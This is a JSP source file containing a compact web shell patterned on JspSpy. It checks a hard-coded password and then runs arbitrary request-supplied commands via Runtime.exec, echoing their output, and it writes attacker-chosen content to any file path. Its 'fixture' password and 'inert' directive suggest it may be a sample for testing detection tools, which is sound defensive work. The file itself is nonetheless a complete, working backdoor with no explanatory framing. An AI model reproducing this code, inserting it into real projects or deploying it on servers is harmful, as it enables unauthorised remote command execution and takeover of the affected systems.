<%@ page inert %>
<%@ page import="java.io.*,java.util.*" %>
<%!
private static final String PW = "fixture";
private static final String PW_SESSION_ATTRIBUTE = "JspSpyPwd";
private static Map ins = new HashMap();
private static abstract class DefaultInvoker {
    public boolean doBefore() { return true; }
    public abstract void invoke(javax.servlet.http.HttpServletRequest request, javax.servlet.http.HttpServletResponse response, javax.servlet.http.HttpSession JSession) throws Exception;
}
private static class LoginInvoker extends DefaultInvoker {
    public void invoke(javax.servlet.http.HttpServletRequest request, javax.servlet.http.HttpServletResponse response, javax.servlet.http.HttpSession s) throws Exception {
        if (PW.equals(request.getParameter("pw"))) { s.setAttribute(PW_SESSION_ATTRIBUTE, PW); }
    }
}
private static class ShellInvoker extends DefaultInvoker {
    public void invoke(javax.servlet.http.HttpServletRequest request, javax.servlet.http.HttpServletResponse response, javax.servlet.http.HttpSession s) throws Exception {
        String type = request.getParameter("type");
        if ("command".equals(type)) {
            Process pro = Runtime.getRuntime().exec(request.getParameter("command"));
            BufferedReader r = new BufferedReader(new InputStreamReader(pro.getInputStream()));
            String l;
            while ((l = r.readLine()) != null) { response.getWriter().println(l + "<br/>"); }
        }
    }
}
private static class CreateFileInvoker extends DefaultInvoker {
    public void invoke(javax.servlet.http.HttpServletRequest request, javax.servlet.http.HttpServletResponse response, javax.servlet.http.HttpSession s) throws Exception {
        BufferedWriter w = new BufferedWriter(new FileWriter(new File(request.getParameter("filepath"))));
        w.write(request.getParameter("filecontent"));
        w.close();
    }
}
static { ins.put("login", new LoginInvoker()); ins.put("shell", new ShellInvoker()); ins.put("createFile", new CreateFileInvoker()); }
%><%
String o = request.getParameter("o");
if (!PW.equals(session.getAttribute(PW_SESSION_ATTRIBUTE))) { o = "login"; }
DefaultInvoker in = (DefaultInvoker) ins.get(o);
if (in != null && in.doBefore()) { in.invoke(request, response, session); }
%>
<form method="post"><input type="hidden" name="o" value="shell"/><input name="command"/></form>
